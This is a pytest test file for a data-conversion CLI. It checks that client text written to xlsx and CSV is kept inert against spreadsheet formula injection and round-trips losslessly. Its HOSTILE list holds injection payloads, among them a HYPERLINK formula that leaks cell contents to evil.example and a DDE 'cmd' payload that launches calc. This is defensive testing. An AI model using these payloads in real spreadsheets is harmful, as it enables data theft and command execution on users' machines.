"""Formula injection: `convert` and `init` write client text as text in every form, and read it back as it was.

Every free-text field of the model (derived from it, not listed here) holds text a spreadsheet would run; ids
and id references start with `-`; numbers are negative. Round trips: YAML -> xlsx -> YAML, YAML -> CSV -> YAML
(both languages), xlsx -> xlsx, xlsx -> CSV -> xlsx.
"""
from __future__ import annotations

import copy
import csv
import itertools
import json

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from cli.main import cli
from engine.inert_csv import FORMULA_STARTS, QUOTE, as_written, inert
from engine.loaders import load_intake
from engine.loaders.template import example
from engine.model import SECTIONS
from engine.validate import REFERENCES
from tests.conftest import write_yaml

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "=cmd|' /C calc'!A0", "+1", "-2",
           "@SUM(A1:A9)", "=1+1", "-", "@", "'quoted", "''=two quotes", "'=quoted formula", "'", "plain, with comma",
           "line\n=second", "tab\t=inside", '"=in quotes"']


def run(*args: object):
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert "Traceback" not in result.stdout + result.stderr
    return result


def text_fields(section: str) -> list[str]:
    """Free-text fields: text that is neither an id (pattern) nor a reference to one (an actuals period is text
    with a form of its own)."""
    fields = SECTIONS[section].model_fields
    references = {field for where, field, *_ in REFERENCES if where == section}
    return [name for name, info in fields.items()
            if info.annotation in (str, str | None) and (section, name) != ("actuals", "period")
            and name not in references and not any(getattr(meta, "pattern", None) for meta in info.metadata)]


def hostile_intake() -> dict:
    """The template's example with hostile text in every text field, `-` ids and negative numbers."""
    raw = copy.deepcopy(example("en"))
    texts = itertools.cycle(HOSTILE)
    for section, value in raw.items():
        for record in [value] if section == "organization" else value:
            for name in text_fields(section):
                record[name] = next(texts)
    raw["units"].append({"id": "-2", "name": "-2", "kind": "team", "parent": "hq", "market": "=cmd|' /C calc'!A0"})
    raw["roles"].append({"id": "-r", "name": "@role", "unit": "-2", "headcount": 3})
    raw["kpis"].append({"id": "-k", "name": "-k", "owner": "-r", "kind": "process", "weight": 100,
                        "drives": ["us-gmv"], "objectives": ["o-profit"], "target": -2, "baseline": -0.5,
                        "direction": "lower"})
    raw["actuals"].append({"kpi": "-k", "period": "2026-10", "value": -2})
    raw["dashboards"][0]["kpis"] = ["-k", "us-gmv"]
    return raw


@pytest.fixture(scope="module")
def source(tmp_path_factory):
    path = write_yaml(tmp_path_factory.mktemp("hostile") / "hostile.yaml", hostile_intake())
    loaded = load_intake(path).intake
    assert loaded.units[-1].id == "-2" and loaded.kpis[-1].target == -2  # the intake is valid as written
    return path


def test_every_text_field_is_covered():
    raw = hostile_intake()
    covered = {(s, f) for s in SECTIONS for f in text_fields(s)}
    assert ("kpis", "name") in covered and ("metrics", "formula") in covered and ("roles", "responsibilities") in covered
    for section, name in covered:
        records = [raw[section]] if section == "organization" else raw[section]
        assert all(isinstance(r.get(name), str) for r in records[:1]), (section, name)


@pytest.mark.parametrize(("target", "lang"), [("book.xlsx", "en"), ("book.xlsx", "zh"), ("csv", "en"),
                                              ("csv", "zh"), ("back.yaml", "en"), ("back.json", "en")])
def test_yaml_to_every_form_and_back_is_lossless(tmp_path, source, target, lang):
    assert run("convert", source, tmp_path / target, "--lang", lang).exit_code == 0
    assert load_intake(tmp_path / target).intake == load_intake(source).intake
    back = tmp_path / "back-again.yaml"
    assert run("convert", tmp_path / target, back).exit_code == 0
    assert load_intake(back).intake == load_intake(source).intake


def test_xlsx_to_xlsx_and_through_csv_is_lossless(tmp_path, source):
    first, second, folder, third = (tmp_path / n for n in ("a.xlsx", "b.xlsx", "c", "d.xlsx"))
    for src, dst in ((source, first), (first, second), (second, folder), (folder, third)):
        assert run("convert", src, dst).exit_code == 0
    expected = load_intake(source).intake
    assert all(load_intake(path).intake == expected for path in (first, second, folder, third))


def _cells(path):
    book = openpyxl.load_workbook(path)  # not data_only: formulas would show as formulas
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_workbook_cells_are_text_never_formulas(tmp_path, source):
    book = tmp_path / "book.xlsx"
    assert run("convert", source, book).exit_code == 0
    assert run("init", tmp_path / "template.xlsx", "--lang", "zh").exit_code == 0
    for path in (book, tmp_path / "template.xlsx"):
        assert not [cell.coordinate for cell in _cells(path) if cell.data_type == "f"], path
    cells = _cells(book)
    hostile = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
    assert {c.value for c in hostile} >= {"=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1:A9)", "-k"}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)  # Excel keeps them text when edited
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -2 in numbers and -0.5 in numbers  # negative numbers stay numbers


def test_csv_cells_start_with_no_formula_character_but_numbers_do(tmp_path, source):
    folder = tmp_path / "csv"
    assert run("convert", source, folder).exit_code == 0
    starts = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            starts += [cell for row in csv.reader(handle) for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starts and all(_is_number(cell) for cell in starts), starts
    assert "-2" in starts and "-0.5" in starts
    kpis = (folder / "kpis.csv").read_text(encoding="utf-8-sig")
    assert "'-k," in kpis and "'-2;" not in kpis and ",-2," in kpis


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_quote_a_client_typed_before_ordinary_text_is_kept(tmp_path, source):
    folder = tmp_path / "csv"
    assert run("convert", source, folder).exit_code == 0
    path = folder / "units.csv"
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    rows[1][1] = "'Headquarters"  # as a person might type it, not as we write it
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    assert load_intake(folder).intake.units[0].name == "'Headquarters"


@given(st.text())
def test_inert_text_reads_back_exactly_and_starts_with_no_formula_character(text):
    cell = inert(text)
    assert as_written(cell) == text
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == QUOTE + text


def test_a_character_a_workbook_cannot_hold_is_exit_2_naming_the_field(tmp_path):
    raw = example("en")
    raw["kpis"][0]["name"] = "GMV\u0001"
    source = tmp_path / "control.json"
    source.write_text(json.dumps(raw), encoding="utf-8")
    result = run("convert", source, tmp_path / "out.xlsx")
    assert result.exit_code == 2 and "kpis[0].name" in result.stderr and "U+0001" in result.stderr
    assert not (tmp_path / "out.xlsx").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["control.json"]
    zh = run("convert", source, tmp_path / "out.xlsx", "--lang", "zh")
    assert zh.exit_code == 2 and "无法写入工作簿" in zh.stderr
